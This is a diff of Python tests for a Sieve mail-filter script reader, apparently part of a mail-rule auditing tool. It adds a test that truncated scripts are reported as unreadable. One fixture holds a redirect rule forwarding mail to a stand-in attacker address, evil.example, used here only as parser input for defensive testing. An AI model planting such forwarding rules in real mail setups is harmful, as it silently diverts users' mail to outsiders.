@@ -185,7 +185,7 @@ def test_commands_read_but_not_judged_are_gaps_naming_them() -> None:
     )
     gaps = " ".join(str(g) for g in read_script(script, script="main", source="s").gaps)
     assert '"addheader"' in gaps and '"deleteheader"' in gaps and '"convert"' in gaps
-    assert "lines 2" in gaps
+    assert "main, line 2:" in gaps
 
 
 def test_text_that_is_not_sieve_is_a_gap_naming_the_line() -> None:
@@ -220,3 +220,13 @@ def test_an_ended_rule_is_said_not_judged_and_a_later_one_is_judged() -> None:
     assert rule.until == datetime(2022, 9, 8, 22, 59, tzinfo=UTC)
     assert not list(judge_rules([rule], owner=OWNER, now=NOW))
     assert list(judge_rules([rule], owner=OWNER, now=datetime(2022, 9, 5, tzinfo=UTC)))
+
+
+def test_a_script_cut_off_inside_a_string_or_block_is_a_gap() -> None:
+    for script in (
+        'if true {\n  redirect "a@evil.example";\n',
+        'redirect "a@evil.exa',
+        "/* never closed\nkeep;",
+    ):
+        read = read_script(script, script="main", source="s")
+        assert any("could not be read as Sieve" in str(g) for g in read.gaps), script
